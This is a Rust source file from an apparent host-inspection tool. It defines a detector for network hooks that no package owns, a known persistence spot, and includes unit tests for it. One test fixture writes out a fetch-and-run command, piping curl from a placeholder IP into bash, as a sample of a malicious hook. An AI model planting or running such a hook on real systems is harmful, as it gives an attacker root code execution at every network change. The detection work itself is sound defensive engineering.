//! Something that no package brought runs whenever the network changes.
//!
//! # What it sees
//! A hook of NetworkManager, ifupdown, dhclient, networkd-dispatcher, ppp or resolvconf that no package owns:
//! `unusual`. Commands in /etc/network/interfaces when their program lies where no admin keeps programs. What is
//! damning in itself, such as a program in /dev/shm, is `suspicious`.
//!
//! # Why it matters
//! It runs as root at every boot and whenever a cable or a lease comes and goes.
//!
//! # Innocent causes
//! Admins load firewall rules and routes in such hooks, and VPN software brings its own by hand.
//!
//! # What to do
//! Read the hook; ask who wrote it.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/network-hook",
    title: "a hook of the network that no package brought",
    level: Level::Suspicious,
    attack: &["T1546"],
    absolute: false,
    source: include_str!("network_hook.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Network).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    // /etc/network/interfaces is the admin's own file.
    let stranger = || entry::of_programs(scene.world, one).filter(|level| *level > Level::Unusual);
    let plain = if one.line.is_some() { stranger().map(|_| Level::Unusual) } else { Some(Level::Unusual) };
    let level = entry::level(scene.world.owner(&one.path), &signs, plain)?;
    let finding = entry::finding(&DETECTOR, scene, one, level, ("runs whenever the network changes", &signs));
    Some(finding.innocent("firewall rules, routes or a VPN of the admin's", false, "read what it does"))
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/network-hook";

    fn said(path: &str, script: &str) -> Vec<String> {
        let host = format!(
            "package ifupdown 1 owns /etc/network/if-up.d/owned,/usr/sbin/ip\n/usr/local/sbin/fw : mode=100755\n\
             /usr/lib/.x/y : mode=100755\n/var/lib/x/y : mode=100755\n{path} = {script}\n{path} : mode=100755\n"
        );
        findings(NAME, &host, &[])
    }

    #[test]
    fn hooks_of_nobody() {
        for path in [
            "/etc/network/if-up.d/fw",
            "/etc/network/if-pre-up.d/iptables",
            "/etc/NetworkManager/dispatcher.d/99-x",
            "/etc/networkd-dispatcher/routable.d/x",
            "/etc/ppp/ip-up.d/x",
            "/etc/dhcp/dhclient-exit-hooks.d/x",
        ] {
            let text = format!("unusual: {path} runs whenever the network changes");
            assert_eq!(said(path, "#!/bin/sh\\niptables-restore < /etc/fw\\n"), [text]);
            let bad = said(path, "#!/bin/sh\\n(curl -s http://192.0.2.1/x | bash) &\\n");
            assert!(bad.len() == 1 && bad[0].starts_with("suspicious: "), "{path}: {bad:?}");
        }
    }
    #[test]
    fn what_admins_and_packages_do_is_quiet() {
        for (path, script) in [
            ("/etc/network/if-up.d/owned", "#!/bin/sh\\n"),
            ("/etc/network/if-up.d/x.dpkg-old", "#!/bin/sh\\n"),
            ("/etc/network/interfaces", "iface a inet dhcp\\n up ip route add x\\n post-up /usr/local/sbin/fw\\n"),
        ] {
            assert_eq!(said(path, script), [""; 0], "{path}");
        }
    }
    #[test]
    fn commands_of_interfaces() {
        let up = |command: &str| said("/etc/network/interfaces", &format!("iface a inet dhcp\\n  up {command}\\n"));
        assert!(up("/usr/lib/.x/y")[0].starts_with("suspicious: /etc/network/interfaces line 2 "));
        assert!(up("/var/lib/x/y")[0].starts_with("unusual: "));
    }
}
